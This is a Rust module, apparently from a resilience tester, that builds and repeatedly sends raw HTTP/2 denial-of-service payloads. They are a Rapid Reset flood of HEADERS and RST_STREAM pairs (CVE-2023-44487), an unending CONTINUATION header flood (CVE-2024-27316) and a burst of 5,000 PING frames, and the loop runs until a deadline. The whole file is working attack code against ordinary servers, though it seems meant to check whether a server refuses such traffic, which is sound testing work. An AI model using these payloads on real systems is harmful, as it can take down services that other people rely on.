//! HTTP/2 (RFC 9113), frame by frame: streams that are taken back as soon as they are asked for
//! (CVE-2023-44487), a head that never ends (CVE-2024-27316), and pings.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::Instant;

use super::attacker::Attacker;
use super::tally::{Became, Must};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET http://a/` by the static table of HPACK.
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'a'];

/// Between two connections.
const PAUSE: Duration = Duration::from_millis(50);
/// Longest wait for the server to end a connection.
const PATIENCE: Duration = Duration::from_secs(1);

/// Sends all of them until then.
pub async fn attack(attacker: &Arc<Attacker>, until: Instant) {
    let attacks = [resets(), endless_head(), pings()];
    loop {
        for bytes in &attacks {
            let became = match attacker.connect().await {
                Ok(mut stream) => {
                    let (mut read, mut write) = stream.split();
                    // Both at once: a server that answers pings must be read.
                    let ended = tokio::time::timeout(PATIENCE, async {
                        let mut answer = Vec::new();
                        let writing = write.write_all(bytes);
                        let reading = read.read_to_end(&mut answer);
                        let _ = tokio::join!(writing, reading);
                    });
                    ended.await.map_or(Became::Silent, |()| Became::Closed)
                }
                Err(_) => Became::Closed,
            };
            attacker.count("HTTP/2", Must::BeRefused, became);
            tokio::time::sleep(PAUSE).await;
        }
        if Instant::now() >= until {
            return;
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn beginning() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

fn resets() -> Vec<u8> {
    let mut bytes = beginning();
    for stream in (1..2_000).step_by(2) {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET));
        bytes.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
    }
    bytes
}

fn endless_head() -> Vec<u8> {
    // A header `x` with 1000 letters: a literal without index, the length in three bytes.
    let mut header = vec![0, 1, b'x', 0x7f, 0xe9, 0x06];
    header.extend([b'a'; 1000]);
    let mut bytes = beginning();
    bytes.extend(frame(HEADERS, END_STREAM, 1, GET));
    for _ in 0..200 {
        bytes.extend(frame(CONTINUATION, 0, 1, &header.repeat(16)));
    }
    bytes
}

fn pings() -> Vec<u8> {
    let mut bytes = beginning();
    for _ in 0..5_000 {
        bytes.extend(frame(PING, 0, 0, &[7; 8]));
    }
    bytes
}
